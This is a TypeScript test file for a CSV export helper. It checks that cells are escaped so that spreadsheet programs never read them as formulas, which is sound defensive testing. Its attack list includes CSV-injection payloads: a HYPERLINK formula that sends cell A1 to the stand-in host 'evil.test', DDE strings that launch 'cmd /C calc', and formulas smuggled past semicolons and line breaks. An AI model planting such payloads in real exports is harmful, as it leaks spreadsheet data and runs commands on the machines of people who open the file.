import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { toCsvLine } from './csv.ts'

const read = (text: string): string[][] => parse(text, { relaxColumnCount: true }) as string[][]

const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/
/** Reads a cell like a program for which semicolons and line breaks end cells. */
const asWithSemicolons = (cell: string): string[] => cell.split(/[;\r\n]/)
/** Removes the added apostrophes. */
const plain = (text: string | undefined) => text?.replaceAll("'", '')

test('T6 a cell with foreign text is never a formula', () => {
  const attacks = [
    ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
    ...['=HYPERLINK("http://evil.test?"&A1,"Click")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
    ...['x;=1+1;y', "x;=cmd|'/C calc'!A0;", 'x\n=1+1', 'a;;+1', ';\t=1'],
    ...['"=1+1"', '=1+1";=1+1', '=1+1,=1+1', "'=1+1"],
  ]
  for (const attack of attacks) {
    const rows = read(toCsvLine(['before', attack, 'behind']))
    assert.equal(rows.length, 1, attack)
    assert.equal(rows[0]?.length, 3, attack)
    for (const part of rows.flat().flatMap(asWithSemicolons)) assert.doesNotMatch(part, FORMULA, attack)
    assert.equal(plain(rows[0]?.[1]), plain(attack), 'the text is complete')
  }
})

test('T6 a CSV reader gets back the same cells and text', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', ';', '\t', '\r', '\n', ' ', "'", 'a') }),
  )
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
      const rows = read(toCsvLine(['first', ...cells]))
      assert.equal(rows.length, 1)
      const [, ...found] = rows[0] ?? []
      assert.deepEqual(found.map(plain), cells.map(plain))
      for (const part of found.flatMap(asWithSemicolons)) assert.doesNotMatch(part, FORMULA)
    }),
  )
})
